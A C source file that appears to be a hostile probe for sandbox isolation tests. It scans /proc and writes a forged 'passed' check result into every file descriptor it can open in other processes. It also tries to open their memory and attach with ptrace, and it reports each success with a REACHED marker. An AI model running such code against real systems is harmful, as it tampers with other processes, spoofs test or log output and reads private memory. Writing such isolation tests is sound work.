// Does not listen. Writes into every descriptor and reads the memory of every process that it can.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

static const char marks[] = "{\"check\":\"echo.comes_back\",\"outcome\":\"passed\"}";

static void write_to_all(int pid) {
  char path[64];
  for (int fd = 0; fd < 64; ++fd) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    const int file = open(path, O_WRONLY | O_NONBLOCK);
    if (file < 0) continue;
    dprintf(2, "REACHED fd of %d\n", pid);
    if (write(file, marks, sizeof marks - 1) < 0) perror("write");
    close(file);
  }
}

static void attack(int pid) {
  char path[64];
  write_to_all(pid);
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  if (open(path, O_RDWR) >= 0) dprintf(2, "REACHED mem of %d\n", pid);
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) dprintf(2, "REACHED ptrace of %d\n", pid);
}

int main(void) {
  DIR* const all = opendir("/proc");
  const struct dirent* entry = NULL;
  if (getppid() > 0) attack(getppid());
  while (all != NULL && (entry = readdir(all)) != NULL) {
    const int pid = atoi(entry->d_name);
    if (pid > 0 && pid != getpid()) attack(pid);
  }
  dprintf(2, "TRIED ALL as %d\n", (int)getuid());
  for (;;) pause();
}
